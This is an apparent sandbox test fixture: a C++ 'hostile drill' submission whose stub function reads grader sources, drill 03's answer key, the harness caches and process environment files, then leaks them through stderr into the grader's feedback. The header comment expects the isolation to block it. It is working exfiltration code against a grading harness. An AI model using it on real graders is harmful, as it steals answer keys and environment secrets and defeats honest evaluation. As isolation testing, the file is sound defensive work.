// Hostile drill 01: stub functions; exclusive_to_inclusive reads every grader file it can
// reach and prints it on stderr as one line ("leaked: [[leaked WHAT]] TEXT ...", or
// "leaked: nothing"), then exits with status 3, so that the grader's "stopped with exit
// status 3" feedback (which quotes stderr's last lines) carries it into the report. It
// tries drill 03's answer key twice: by running the harness's counter (cd @REPO@/harness
// && python3 -m scanlab.scan_counts) and by reading scanlab/scan_counts.py; then the
// harness's sources under @REPO@/harness/ and /autograder/source/ (every folder it can
// list, files up to 8 KiB), /proc/1/environ and its parent's environ, and the driver
// caches (@REPO@/cache/, /root/.cache/scanlab/).
// Right verdict: FAIL, and no harness source and no drill 03 answer in the report: with
// bubblewrap none of those paths exists in the sandbox; in partial isolation (Gradescope's
// container) the autograder's are there but closed to the run's uid (owner root, 0700/0600;
// harness/test_gradescope.py checks it). (Bounded: it only reads, runs one Python within
// the run's limits, and prints at most 96 KiB.)

#include <cstddef>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <dirent.h>
#include <string>
#include <unistd.h>

namespace {
constexpr std::size_t kMaxFile = 8 << 10;
constexpr std::size_t kMaxTotal = 96 << 10;
std::string leaked;

void add(const std::string& label, const std::string& text) {
    if (text.empty() || leaked.size() >= kMaxTotal) return;
    std::string flat;
    for (char c : text) flat += (c == '\n' || c == '\r') ? std::string(" | ") : std::string(1, c);
    leaked += " [[leaked " + label + "]] " + flat.substr(0, kMaxTotal - leaked.size());
}

std::string slurp(const std::string& path) {
    std::string text;
    if (std::FILE* f = std::fopen(path.c_str(), "rb")) {
        char buf[4096];
        std::size_t got;
        while (text.size() < kMaxFile && (got = std::fread(buf, 1, sizeof buf, f)) > 0) text.append(buf, got);
        std::fclose(f);
    }
    return text.substr(0, kMaxFile);
}

std::string command(const char* line) {
    std::string text;
    if (std::FILE* p = popen(line, "r")) {
        char buf[4096];
        std::size_t got;
        while (text.size() < kMaxFile && (got = std::fread(buf, 1, sizeof buf, p)) > 0) text.append(buf, got);
        pclose(p);
    }
    return text;
}

// Every file under `dir` it may list and read, a few levels down.
void walk(const std::string& dir, int depth) {
    DIR* d = opendir(dir.c_str());
    if (!d || depth > 4) {
        if (d) closedir(d);
        return;
    }
    while (dirent* e = readdir(d)) {
        if (std::strcmp(e->d_name, ".") == 0 || std::strcmp(e->d_name, "..") == 0) continue;
        const std::string path = dir + "/" + e->d_name;
        if (e->d_type == DT_DIR) {
            walk(path, depth + 1);
        } else {
            add(path, slurp(path));
        }
    }
    closedir(d);
}

void hunt() {
    add("scan_counts run", command("cd '@REPO@/harness' && python3 -m scanlab.scan_counts 2>/dev/null"));
    add("scan_counts run", command("cd /autograder/source/harness && python3 -m scanlab.scan_counts 2>/dev/null"));
    for (const char* path : {"@REPO@/harness/scanlab/scan_counts.py", "/autograder/source/harness/scanlab/scan_counts.py",
                             "@REPO@/harness/scanlab/grade_drill03.py", "@REPO@/harness/grade.py",
                             "/proc/1/environ"}) {
        add(path, slurp(path));
    }
    add("parent environ", slurp("/proc/" + std::to_string(getppid()) + "/environ"));
    walk("@REPO@/harness", 0);
    walk("/autograder/source", 0);
    walk("@REPO@/cache", 0);
    walk("/root/.cache/scanlab", 0);
    std::fprintf(stderr, "leaked:%s\n", leaked.empty() ? " nothing" : leaked.c_str());
    std::fflush(stderr);
    std::exit(3);
}
}  // namespace

void exclusive_to_inclusive(const long long*, const long long*, long long*, std::size_t) { hunt(); }
void inclusive_to_exclusive(const long long*, long long*, std::size_t) {}
long long total_from_exclusive(const long long*, const long long*, std::size_t) { return 0; }
